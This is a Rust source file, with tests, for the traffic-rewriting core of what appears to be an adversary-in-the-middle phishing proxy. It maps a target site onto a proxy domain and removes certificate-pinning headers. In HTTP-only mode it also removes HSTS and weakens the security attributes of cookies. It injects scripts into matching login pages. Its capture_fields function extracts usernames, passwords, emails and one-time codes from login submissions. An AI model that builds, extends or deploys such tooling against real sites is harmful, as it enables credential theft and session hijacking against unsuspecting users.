//! Rewriting of the five traffic surfaces: request head, request body,
//! response head, response body and injected scripts.
//!
//! Substitution rules always run before domain translation.

use std::borrow::Cow;
use std::sync::Arc;

use cookie::{Cookie, SameSite};
use http::header::{self, HeaderName, HeaderValue};

use crate::config::TlsMode;
use crate::domain::{Direction, Translator};
use crate::rules::{Document, RuleSet, inject};

/// Target-side URL of the current request. Set on both the request and the
/// response extensions by the content rewriter.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct TargetUrl(pub String);

/// The response's `Location` before translation, if any.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct TargetLocation(pub String);

/// Response headers translated proxy-ward besides `Location` and `Set-Cookie`.
const TRANSLATED_RESPONSE_HEADERS: &[&str] = &[
    "access-control-allow-origin",
    "content-location",
    "content-security-policy",
    "content-security-policy-report-only",
    "link",
    "refresh",
];

/// Response headers that pin the real target's TLS identity.
const PINNING_HEADERS: &[&str] = &["public-key-pins", "public-key-pins-report-only", "expect-ct"];

/// How a body is treated by the rewriter.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum BodyKind {
    Html,
    Script,
    /// Other text: CSS, JSON, XML, plain text.
    Text,
    Form,
    Multipart,
}

impl BodyKind {
    /// Classify a `Content-Type`. `None` means the body streams through.
    pub fn from_content_type(content_type: &str) -> Option<Self> {
        let mime = content_type
            .split(';')
            .next()
            .unwrap_or_default()
            .trim()
            .to_ascii_lowercase();
        if mime.is_empty() {
            return None;
        }
        let kind = if mime == "text/html" || mime == "application/xhtml+xml" {
            BodyKind::Html
        } else if mime.contains("javascript") || mime.contains("ecmascript") {
            BodyKind::Script
        } else if mime == "application/x-www-form-urlencoded" {
            BodyKind::Form
        } else if mime.starts_with("multipart/form-data") {
            BodyKind::Multipart
        } else if mime.starts_with("text/")
            || mime.ends_with("json")
            || mime.ends_with("xml")
        {
            BodyKind::Text
        } else {
            return None;
        };
        Some(kind)
    }
}

/// Applies the rule set and the domain translator to HTTP messages.
#[derive(Debug)]
pub struct Rewriter {
    translator: Arc<Translator>,
    rules: RuleSet,
    tls_mode: TlsMode,
    rewrite_cookie_values: bool,
}

impl Rewriter {
    pub fn new(translator: Arc<Translator>, rules: RuleSet) -> Self {
        Self {
            translator,
            rules,
            tls_mode: TlsMode::Dual,
            rewrite_cookie_values: false,
        }
    }

    pub fn tls_mode(mut self, mode: TlsMode) -> Self {
        self.tls_mode = mode;
        self
    }

    pub fn rewrite_cookie_values(mut self, enabled: bool) -> Self {
        self.rewrite_cookie_values = enabled;
        self
    }

    pub fn translator(&self) -> &Arc<Translator> {
        &self.translator
    }

    /// Rules, then translation, in one direction.
    pub fn text<'a>(&self, input: &'a [u8], direction: Direction) -> Cow<'a, [u8]> {
        match self.rules.apply(input, direction) {
            Cow::Borrowed(b) => self.translator.translate(b, direction),
            Cow::Owned(owned) => Cow::Owned(self.translator.translate(&owned, direction).into_owned()),
        }
    }

    fn header_value(&self, value: &HeaderValue, direction: Direction) -> Option<HeaderValue> {
        match self.text(value.as_bytes(), direction) {
            Cow::Borrowed(_) => None,
            Cow::Owned(bytes) => HeaderValue::from_bytes(&bytes).ok(),
        }
    }

    /// Rewrite the request head target-ward: `Host`, `Origin`, `Referer`,
    /// `Cookie` and the request target.
    pub fn rewrite_request_headers(&self, parts: &mut http::request::Parts, target_host: &str) {
        if let Ok(host) = HeaderValue::from_str(target_host) {
            parts.headers.insert(header::HOST, host);
        }
        for name in [header::ORIGIN, header::REFERER, header::COOKIE] {
            let rewritten: Vec<HeaderValue> = parts
                .headers
                .get_all(&name)
                .iter()
                .map(|v| self.header_value(v, Direction::TargetWard).unwrap_or_else(|| v.clone()))
                .collect();
            if rewritten.is_empty() {
                continue;
            }
            parts.headers.remove(&name);
            for value in rewritten {
                parts.headers.append(name.clone(), value);
            }
        }

        let path_and_query = parts
            .uri
            .path_and_query()
            .map_or_else(|| "/".to_string(), |pq| pq.as_str().to_string());
        let rewritten = match self.text(path_and_query.as_bytes(), Direction::TargetWard) {
            Cow::Borrowed(_) => path_and_query.to_string(),
            Cow::Owned(bytes) => String::from_utf8_lossy(&bytes).into_owned(),
        };
        match rewritten.parse::<http::Uri>() {
            Ok(uri) => parts.uri = uri,
            Err(e) => {
                tracing::debug!(error = %e, "rewritten request target is not a valid URI, keeping original");
                if let Ok(uri) = path_and_query.parse() {
                    parts.uri = uri;
                }
            }
        }
    }

    /// Rewrite a request body target-ward. Multipart bodies only have their
    /// text parts rewritten; unknown kinds pass through.
    pub fn rewrite_request_body<'a>(&self, kind: BodyKind, content_type: &str, body: &'a [u8]) -> Cow<'a, [u8]> {
        match kind {
            BodyKind::Multipart => match multipart_boundary(content_type) {
                Some(boundary) => self.rewrite_multipart(body, &boundary),
                None => Cow::Borrowed(body),
            },
            _ => self.text(body, Direction::TargetWard),
        }
    }

    fn rewrite_multipart<'a>(&self, body: &'a [u8], boundary: &str) -> Cow<'a, [u8]> {
        let delimiter = format!("--{boundary}");
        let delimiter = delimiter.as_bytes();
        let mut out = Vec::with_capacity(body.len());
        let mut changed = false;
        let mut rest = body;

        // Preamble up to and including the first delimiter
        let Some(first) = crate::domain::find(rest, delimiter) else {
            return Cow::Borrowed(body);
        };
        out.extend_from_slice(&rest[..first + delimiter.len()]);
        rest = &rest[first + delimiter.len()..];

        while let Some(next) = crate::domain::find(rest, delimiter) {
            let part = &rest[..next];
            match split_part(part) {
                Some((head, content)) if part_is_text(head) => {
                    let rewritten = self.text(content, Direction::TargetWard);
                    changed |= matches!(rewritten, Cow::Owned(_));
                    out.extend_from_slice(&part[..part.len() - content.len() - part_tail(part)]);
                    out.extend_from_slice(&rewritten);
                    out.extend_from_slice(&part[part.len() - part_tail(part)..]);
                }
                _ => out.extend_from_slice(part),
            }
            out.extend_from_slice(delimiter);
            rest = &rest[next + delimiter.len()..];
        }
        out.extend_from_slice(rest);

        if changed { Cow::Owned(out) } else { Cow::Borrowed(body) }
    }

    /// Rewrite the response head proxy-ward. Must run before the body is
    /// rewritten, so dynamic mode learns hosts from `Location` first.
    pub fn rewrite_response_headers(&self, parts: &mut http::response::Parts) {
        if self.translator.is_dynamic() {
            for name in [header::LOCATION, header::CONTENT_SECURITY_POLICY, header::LINK] {
                for value in parts.headers.get_all(&name) {
                    self.translator.learn_from(value.as_bytes());
                }
            }
        }

        let mut translated: Vec<&str> = vec!["location"];
        translated.extend_from_slice(TRANSLATED_RESPONSE_HEADERS);
        for name in translated {
            let name = HeaderName::from_static(name);
            let values: Vec<HeaderValue> = parts.headers.get_all(&name).iter().cloned().collect();
            if values.is_empty() {
                continue;
            }
            parts.headers.remove(&name);
            for value in values {
                let value = self
                    .header_value(&value, Direction::ProxyWard)
                    .unwrap_or(value);
                parts.headers.append(name.clone(), value);
            }
        }

        let cookies: Vec<HeaderValue> = parts.headers.get_all(header::SET_COOKIE).iter().cloned().collect();
        if !cookies.is_empty() {
            parts.headers.remove(header::SET_COOKIE);
            for value in cookies {
                let value = self.rewrite_set_cookie(&value).unwrap_or(value);
                parts.headers.append(header::SET_COOKIE, value);
            }
        }

        for name in PINNING_HEADERS {
            parts.headers.remove(*name);
        }
        if self.tls_mode == TlsMode::HttpOnly {
            parts.headers.remove(header::STRICT_TRANSPORT_SECURITY);
        }
    }

    fn rewrite_set_cookie(&self, value: &HeaderValue) -> Option<HeaderValue> {
        let raw = value.to_str().ok()?;
        let mut cookie = match Cookie::parse(raw) {
            Ok(cookie) => cookie,
            Err(e) => {
                tracing::debug!(error = %e, "unparseable Set-Cookie, forwarding as is");
                return None;
            }
        };
        if self.translator.is_dynamic()
            && let Some(domain) = cookie.domain()
        {
            self.translator.learn_from(domain.as_bytes());
        }

        let mut changed = false;
        if let Some(domain) = cookie.domain().map(str::to_string)
            && let Some(mapped) = self.translator.cookie_domain_to_proxy(&domain)
        {
            cookie.set_domain(mapped);
            changed = true;
        }
        if self.rewrite_cookie_values
            && let Cow::Owned(bytes) = self.text(cookie.value().as_bytes(), Direction::ProxyWard)
            && let Ok(v) = String::from_utf8(bytes)
        {
            cookie.set_value(v);
            changed = true;
        }
        if self.tls_mode == TlsMode::HttpOnly {
            if cookie.secure() == Some(true) {
                cookie.set_secure(false);
                changed = true;
            }
            if cookie.same_site() == Some(SameSite::None) {
                cookie.set_same_site(SameSite::Lax);
                changed = true;
            }
        }
        if !changed {
            return None;
        }
        HeaderValue::from_str(&cookie.to_string()).ok()
    }

    /// Rewrite a response body proxy-ward and apply JS injection rules whose
    /// pattern matches `target_url`.
    pub fn rewrite_response_body(&self, kind: BodyKind, body: &[u8], target_url: &str) -> Vec<u8> {
        self.translator.learn_from(body);
        let mut out = self.text(body, Direction::ProxyWard).into_owned();

        let document = match kind {
            BodyKind::Html => Document::Html,
            BodyKind::Script => Document::Script,
            _ => return out,
        };
        for payload in self.rules.injections_for(target_url) {
            match inject(&out, payload, document) {
                Ok(injected) => out = injected,
                Err(e) => {
                    tracing::debug!(url = %target_url, "{e}");
                    break;
                }
            }
        }
        out
    }
}

pub(crate) fn multipart_boundary(content_type: &str) -> Option<String> {
    content_type.split(';').skip(1).find_map(|param| {
        let (key, value) = param.split_once('=')?;
        key.trim()
            .eq_ignore_ascii_case("boundary")
            .then(|| value.trim().trim_matches('"').to_string())
            .filter(|b| !b.is_empty())
    })
}

/// Split a multipart part into headers and content, dropping the CRLF that
/// precedes the next delimiter from `content`.
fn split_part(part: &[u8]) -> Option<(&[u8], &[u8])> {
    let header_end = crate::domain::find(part, b"\r\n\r\n")?;
    let end = part.len() - part_tail(part);
    if header_end + 4 > end {
        return None;
    }
    let head = &part[..header_end];
    let content = &part[header_end + 4..end];
    Some((head, content))
}

fn part_tail(part: &[u8]) -> usize {
    if part.ends_with(b"\r\n") { 2 } else { 0 }
}

fn part_is_text(head: &[u8]) -> bool {
    let head = String::from_utf8_lossy(head).to_ascii_lowercase();
    match head.lines().find_map(|l| l.trim().strip_prefix("content-type:")) {
        Some(ct) => {
            let ct = ct.trim();
            ct.starts_with("text/") || ct.ends_with("json") || ct.ends_with("xml")
        }
        // Plain form fields carry no content type
        None => !head.contains("filename="),
    }
}

/// Extract non-empty fields from a login-style POST body.
pub fn capture_fields(kind: BodyKind, body: &[u8]) -> Vec<(String, String)> {
    match kind {
        BodyKind::Form => url::form_urlencoded::parse(body)
            .filter(|(_, v)| !v.is_empty())
            .map(|(k, v)| (k.into_owned(), v.into_owned()))
            .collect(),
        BodyKind::Text => match serde_json::from_slice::<serde_json::Value>(body) {
            Ok(serde_json::Value::Object(map)) => map
                .into_iter()
                .filter_map(|(k, v)| {
                    let v = match v {
                        serde_json::Value::String(s) if !s.is_empty() => s,
                        serde_json::Value::Number(n) => n.to_string(),
                        serde_json::Value::Bool(b) => b.to_string(),
                        _ => return None,
                    };
                    Some((k, v))
                })
                .collect(),
            _ => Vec::new(),
        },
        _ => Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::DomainName;
    use crate::rules::{JsInjectionRule, Substitution};

    fn translator() -> Arc<Translator> {
        let resources = vec![DomainName::parse("static.t.tld").unwrap()];
        Arc::new(
            Translator::new(
                DomainName::parse("t.tld").unwrap(),
                DomainName::parse("proxy.tld").unwrap(),
                &resources,
            )
            .unwrap(),
        )
    }

    fn rewriter() -> Rewriter {
        Rewriter::new(translator(), RuleSet::new())
    }

    fn response(headers: &[(&str, &str)]) -> http::response::Parts {
        let mut builder = http::Response::builder();
        for (k, v) in headers {
            builder = builder.header(*k, *v);
        }
        builder.body(()).unwrap().into_parts().0
    }

    #[test]
    fn classifies_content_types() {
        assert_eq!(BodyKind::from_content_type("text/html; charset=utf-8"), Some(BodyKind::Html));
        assert_eq!(BodyKind::from_content_type("application/javascript"), Some(BodyKind::Script));
        assert_eq!(BodyKind::from_content_type("application/ld+json"), Some(BodyKind::Text));
        assert_eq!(BodyKind::from_content_type("text/css"), Some(BodyKind::Text));
        assert_eq!(
            BodyKind::from_content_type("multipart/form-data; boundary=x"),
            Some(BodyKind::Multipart)
        );
        assert_eq!(BodyKind::from_content_type("image/png"), None);
        assert_eq!(BodyKind::from_content_type(""), None);
    }

    #[test]
    fn request_head_is_translated_target_ward() {
        let rw = rewriter();
        let mut parts = http::Request::builder()
            .uri("/login?next=https%3A%2F%2Fproxy.tld%2Fhome")
            .header("host", "proxy.tld")
            .header("origin", "https://proxy.tld")
            .header("referer", "https://static.proxy.tld/page")
            .header("cookie", "pref=proxy.tld")
            .body(())
            .unwrap()
            .into_parts()
            .0;
        rw.rewrite_request_headers(&mut parts, "t.tld");
        assert_eq!(parts.headers["host"], "t.tld");
        assert_eq!(parts.headers["origin"], "https://t.tld");
        assert_eq!(parts.headers["referer"], "https://static.t.tld/page");
        assert_eq!(parts.headers["cookie"], "pref=t.tld");
        assert_eq!(parts.uri, "/login?next=https%3A%2F%2Ft.tld%2Fhome");
    }

    #[test]
    fn rules_run_before_translation() {
        let rules = RuleSet::new().substitution(Substitution::new("new.tld", "old.tld").unwrap());
        let rw = Rewriter::new(translator(), rules);
        let out = rw.rewrite_request_body(BodyKind::Text, "text/plain", b"go to new.tld/login at proxy.tld");
        assert_eq!(&*out, b"go to old.tld/login at t.tld");
    }

    #[test]
    fn response_headers_are_translated() {
        let rw = rewriter();
        let mut parts = response(&[
            ("location", "https://t.tld/next"),
            ("content-security-policy", "default-src 'self' https://static.t.tld"),
            ("access-control-allow-origin", "https://t.tld"),
            ("set-cookie", "sid=1; Domain=.t.tld; Path=/; Secure"),
            ("set-cookie", "other=2"),
            ("public-key-pins", "pin-sha256=\"x\""),
            ("strict-transport-security", "max-age=1"),
        ]);
        rw.rewrite_response_headers(&mut parts);
        assert_eq!(parts.headers["location"], "https://proxy.tld/next");
        assert_eq!(
            parts.headers["content-security-policy"],
            "default-src 'self' https://static.proxy.tld"
        );
        assert_eq!(parts.headers["access-control-allow-origin"], "https://proxy.tld");
        let cookies: Vec<_> = parts.headers.get_all("set-cookie").iter().collect();
        assert_eq!(cookies.len(), 2);
        let rewritten = cookies[0].to_str().unwrap();
        assert!(rewritten.contains("Domain=") && rewritten.contains("proxy.tld"));
        assert!(!rewritten.contains("t.tld;"));
        assert!(rewritten.contains("Secure"));
        assert_eq!(cookies[1], "other=2");
        assert!(!parts.headers.contains_key("public-key-pins"));
        assert!(parts.headers.contains_key("strict-transport-security"));
    }

    #[test]
    fn http_only_mode_strips_secure_attributes() {
        let translator = Arc::new(
            Translator::new(
                DomainName::parse("t.tld").unwrap(),
                DomainName::parse("proxy.tld").unwrap(),
                &[],
            )
            .unwrap()
            .client_scheme(TlsMode::HttpOnly.client_scheme()),
        );
        let rw = Rewriter::new(translator, RuleSet::new()).tls_mode(TlsMode::HttpOnly);
        let mut parts = response(&[
            ("location", "https://t.tld/next"),
            ("set-cookie", "sid=1; Secure; SameSite=None"),
            ("strict-transport-security", "max-age=1"),
        ]);
        rw.rewrite_response_headers(&mut parts);
        assert_eq!(parts.headers["location"], "http://proxy.tld/next");
        let cookie = parts.headers["set-cookie"].to_str().unwrap();
        assert!(!cookie.contains("Secure"));
        assert!(cookie.contains("SameSite=Lax"));
        assert!(!parts.headers.contains_key("strict-transport-security"));
    }

    #[test]
    fn cookie_values_only_when_enabled() {
        let mut parts = response(&[("set-cookie", "back=https%3A%2F%2Ft.tld%2F")]);
        rewriter().rewrite_response_headers(&mut parts);
        assert_eq!(parts.headers["set-cookie"], "back=https%3A%2F%2Ft.tld%2F");

        let mut parts = response(&[("set-cookie", "back=https%3A%2F%2Ft.tld%2F")]);
        rewriter().rewrite_cookie_values(true).rewrite_response_headers(&mut parts);
        assert!(
            parts.headers["set-cookie"]
                .to_str()
                .unwrap()
                .starts_with("back=https%3A%2F%2Fproxy.tld%2F")
        );
    }

    #[test]
    fn response_body_with_injection() {
        let rules = RuleSet::new().injection(JsInjectionRule {
            url_pattern: "t.tld/login".into(),
            payload: b"hook()".to_vec(),
        });
        let rw = Rewriter::new(translator(), rules);
        let out = rw.rewrite_response_body(
            BodyKind::Html,
            b"<html><head><link href=\"https://static.t.tld/a.css\"></head>",
            "https://t.tld/login",
        );
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "<html><head><script type=\"text/javascript\">hook()</script><link href=\"https://static.proxy.tld/a.css\"></head>"
        );

        let out = rw.rewrite_response_body(BodyKind::Html, b"<head>x", "https://t.tld/home");
        assert_eq!(out, b"<head>x");
    }

    #[test]
    fn truncated_document_keeps_translated_bytes() {
        let rules = RuleSet::new().injection(JsInjectionRule {
            url_pattern: "t.tld".into(),
            payload: b"hook()".to_vec(),
        });
        let rw = Rewriter::new(translator(), rules);
        let out = rw.rewrite_response_body(BodyKind::Html, b"<a href=//t.tld/></a><head", "https://t.tld/");
        assert_eq!(out, b"<a href=//proxy.tld/></a><head");
    }

    #[test]
    fn round_trip_through_both_bodies() {
        let rw = rewriter();
        let original = b"<a href=\"https://t.tld/a\">x</a> <img src=//static.t.tld/i.png> evil-t.tld";
        let proxied = rw.rewrite_response_body(BodyKind::Html, original, "https://t.tld/");
        let back = rw.rewrite_request_body(BodyKind::Text, "text/html", &proxied);
        assert_eq!(&*back, &original[..]);
    }

    #[test]
    fn multipart_rewrites_text_parts_only() {
        let rw = rewriter();
        let body = b"--XX\r\nContent-Disposition: form-data; name=\"site\"\r\n\r\nhttps://proxy.tld\r\n\
--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.bin\"\r\nContent-Type: application/octet-stream\r\n\r\nproxy.tld\r\n--XX--\r\n";
        let out = rw.rewrite_request_body(BodyKind::Multipart, "multipart/form-data; boundary=XX", body);
        let out = String::from_utf8(out.into_owned()).unwrap();
        assert!(out.contains("\r\n\r\nhttps://t.tld\r\n--XX"));
        assert!(out.contains("\r\n\r\nproxy.tld\r\n--XX--"));
    }

    #[test]
    fn captures_form_and_json_fields() {
        let fields = capture_fields(BodyKind::Form, b"user=alice&pass=s3cret&remember=");
        assert_eq!(
            fields,
            vec![("user".to_string(), "alice".to_string()), ("pass".to_string(), "s3cret".to_string())]
        );
        let fields = capture_fields(BodyKind::Text, br#"{"email":"a@b.c","otp":123456,"nested":{}}"#);
        assert_eq!(fields.len(), 2);
        assert!(capture_fields(BodyKind::Text, b"not json").is_empty());
        assert!(capture_fields(BodyKind::Html, b"user=x").is_empty());
    }
}
